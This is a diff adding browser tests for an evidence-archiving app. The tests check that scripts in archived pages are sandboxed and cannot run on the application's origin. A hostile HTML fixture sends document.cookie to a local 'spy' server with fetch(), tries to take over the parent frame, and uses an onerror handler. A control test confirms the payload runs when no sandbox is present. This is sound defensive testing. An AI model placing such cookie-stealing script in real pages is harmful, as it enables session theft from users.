@@ -1,0 +1,64 @@
+"""Archived pages in a real browser: their scripts never run, even on our origin."""
+
+import pytest
+
+from claims import services
+from claims.models import Claim
+from tests.capture_servers import Server, respond
+from tests.conftest import add_source
+
+pytestmark = pytest.mark.browser
+
+
+def hostile_page(spy):
+    """An archived page that tries to run script, phone home and frame-bust."""
+    return (
+        "<html><head><title>Original title</title></head><body>"
+        "<p id='evidence'>Beweisstück</p>"
+        "<script>document.title = 'SCRIPT RAN';"
+        f"fetch('{spy}/fetch?c=' + document.cookie);"
+        "try { parent.document.title = 'PARENT OWNED' } catch (e) {}</script>"
+        f"<img src='{spy}/img' onerror=\"document.title='HANDLER RAN'\">"
+        "</body></html>"
+    ).encode()
+
+
+def test_archived_scripts_do_not_run_on_the_application_origin(
+    transactional_db, capture_settings, make_claim, live_server, page
+):
+    with Server({}) as spy:
+        body = hostile_page(spy.url("").rstrip("/"))
+        with Server({"/hostile": respond(body)}) as origin:
+            source = add_source(
+                make_claim(status=Claim.Status.PUBLISHED), url=origin.url("/hostile")
+            )
+            services.run_capture(capture_id=source.captures.get().pk)
+        capture = source.captures.get()
+        page.context.add_cookies(
+            [{"name": "sessionid", "value": "secret", "url": live_server.url}]
+        )
+
+        page.goto(live_server.url + capture.get_absolute_url())
+        frame = page.frame_locator("iframe.capture__frame")
+        frame.locator("#evidence").wait_for()
+        title_with_frame = page.title()
+        page.goto(f"{live_server.url}/archive/{capture.pk}/raw/")
+        page.locator("#evidence").wait_for()
+        top_level_title = page.title()
+
+        assert spy.requests == []
+    assert title_with_frame.startswith("Archived copy")
+    assert top_level_title == "Original title"
+
+
+def test_control_the_same_page_without_the_sandbox_does_run_its_script(page):
+    """Proves the test above can fail: unsandboxed, the page's script runs."""
+    with Server({}) as spy:
+        body = hostile_page(spy.url("").rstrip("/"))
+        with Server({"/hostile": respond(body)}) as origin:
+            page.goto(origin.url("/hostile"))
+            page.wait_for_function(
+                "document.title === 'SCRIPT RAN' || document.title === 'HANDLER RAN'"
+            )
+            page.wait_for_timeout(300)
+        assert spy.requests
